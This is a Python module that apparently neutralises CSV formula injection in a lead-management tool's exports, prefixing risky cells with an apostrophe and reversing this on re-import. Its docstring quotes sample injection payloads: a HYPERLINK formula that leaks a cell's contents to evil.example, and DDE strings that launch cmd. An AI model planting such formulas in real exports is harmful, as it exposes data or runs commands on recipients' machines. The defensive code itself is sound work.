"""Cells of the CSV files cadence writes, made safe to open in a spreadsheet (CSV or formula injection).

A spreadsheet (Excel, LibreOffice Calc, Google Sheets) runs a cell that starts with ``=``, ``+``,
``-`` or ``@`` as a formula: a lead's company ``=HYPERLINK("https://evil.example?"&A1, "click")``
or ``=cmd|'/c calc'!A1`` would run on the machine of whoever opens the export. Every CSV cadence
writes (the rejects file of ``cadence leads import``, ``cadence report --csv`` and
``cadence postcards export``) passes each cell through :func:`csv_cell` (text through
:func:`neutralize_formula`), following OWASP's advice:

- text that starts with ``=``, ``+``, ``-``, ``@``, a tab, a carriage return, a line feed or a NUL,
  or whose first character after leading white space is ``=``, ``+``, ``-`` or ``@`` (some
  spreadsheets trim spaces when they import), is written with a ``'`` in front. The spreadsheet
  shows it as text; removing that one ``'`` gives the value back exactly.
- a spreadsheet may also start a cell inside ours: one whose locale separates cells with ``;``
  (Excel in most of Europe) or a tab splits ``x;=cmd|' /C calc'!A0`` into ``x`` and a formula,
  even when the file separates with ``,`` and quotes the cell (Excel honours quotes only at the
  start of one of its own cells), and a reader that loses track of quotes starts a row after a
  line break. So the text after every ``,``, ``;``, tab, carriage return or line feed in a cell
  that would start a formula (``=``, ``+``, ``-``, ``@`` or NUL, after any white space and ``"``;
  a plain number up to the next separator is fine) gets a ``'`` right after that separator:
  ``x;'=cmd|' /C calc'!A0``. Text that holds no such place is left as it is.
- text that is a plain decimal number (``-5``, ``+3``, ``-0.25``, ``1e-3``: an optional sign,
  ASCII digits, an optional fraction and exponent, nothing else) is written as it is: a spreadsheet
  reads it as that number, it cannot hold a formula, and a negative figure stays a number one can
  add up. ``-5 apples`` or ``-1+1`` are not plain numbers and are prefixed.
- reading a file back (``cadence leads import`` of a fixed rejects file) takes these marks off
  again (:func:`unneutralize_formula`): a phone number ``+1 555 0100`` written ``'+1 555 0100``
  is imported as ``+1 555 0100``.
- numbers (``int``, ``float``) are written as they are, and ``None`` as an empty cell; a float
  that is not finite (``-inf``, ``nan``) is written as text, like any other text.
"""

from __future__ import annotations

import math
import re

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\x00")
"""Characters that make a spreadsheet read a cell as a formula when the cell starts with one."""

SEPARATORS = (",", ";", "\t", "\r", "\n")
"""Characters after which a spreadsheet may start a new cell inside one of ours (see above)."""

_FORMULA_AFTER_SPACE = ("=", "+", "-", "@")
_SPLIT = re.compile(r"([,;\t\r\n])")
_MARK_AFTER_SEPARATOR = re.compile(r"([,;\t\r\n])'")
_PLAIN_NUMBER = re.compile(r"[+-]?(?:[0-9]+(?:\.[0-9]*)?|\.[0-9]+)(?:[eE][+-]?[0-9]+)?")


def is_plain_number(text: str) -> bool:
    """Whether ``text`` is exactly a decimal number such as ``-5``, ``+3.25`` or ``1e-3`` (no spaces)."""
    return _PLAIN_NUMBER.fullmatch(text) is not None


def neutralize_formula(cell: str) -> str:
    """``cell`` with a ``'`` in front if a spreadsheet would run it as a formula, else ``cell`` unchanged.

    See the module documentation for the rules; a plain number such as ``-5`` is left as it is.
    """
    if not cell or is_plain_number(cell):
        return cell
    if _SPLIT.search(cell) is not None:
        cell = _neutralize_inner_cells(cell)
    if cell.startswith(FORMULA_STARTS) or cell.lstrip().startswith(_FORMULA_AFTER_SPACE):
        return f"'{cell}"
    return cell


def unneutralize_formula(cell: str) -> str:
    """``cell`` without the ``'`` marks :func:`neutralize_formula` added, when it is exactly what that wrote.

    A rejects file (or an export) opened, fixed and saved as CSV comes back with the marks; reading
    it again gives each value back as it was. A cell that :func:`neutralize_formula` could not have
    written (a ``'`` of the user's own) is left as it is.
    """
    if "'" not in cell:
        return cell
    candidate = cell[1:] if cell.startswith("'") else cell
    candidate = _MARK_AFTER_SEPARATOR.sub(r"\1", candidate)
    if candidate != cell and neutralize_formula(candidate) == cell:
        return candidate
    return cell


def _neutralize_inner_cells(cell: str) -> str:
    """``cell`` with a ``'`` after each separator whose following text would start a formula.

    Worked from the end, so that a ``'`` added further on is seen when judging what precedes it.
    """
    for match in reversed(list(_SPLIT.finditer(cell))):
        rest = cell[match.end() :]
        start = rest.lstrip().lstrip('"').lstrip()
        if not (rest.startswith("\x00") or start.startswith(_FORMULA_AFTER_SPACE)):
            continue
        separators = (match.group(),) if match.group() in ",;\t" else (",", ";", "\t")
        pieces = [re.split(f"[{re.escape(separator)}\r\n]", rest, maxsplit=1)[0] for separator in separators]
        if not all(is_plain_number(piece) for piece in pieces):
            cell = f"{cell[: match.end()]}'{rest}"
    return cell


def csv_cell(value: object) -> str | int | float:
    """The value to hand to :mod:`csv` for one cell: numbers as they are, ``None`` empty, text neutralised."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return str(value)
    if isinstance(value, int) or (isinstance(value, float) and math.isfinite(value)):
        return value
    return neutralize_formula(value if isinstance(value, str) else str(value))
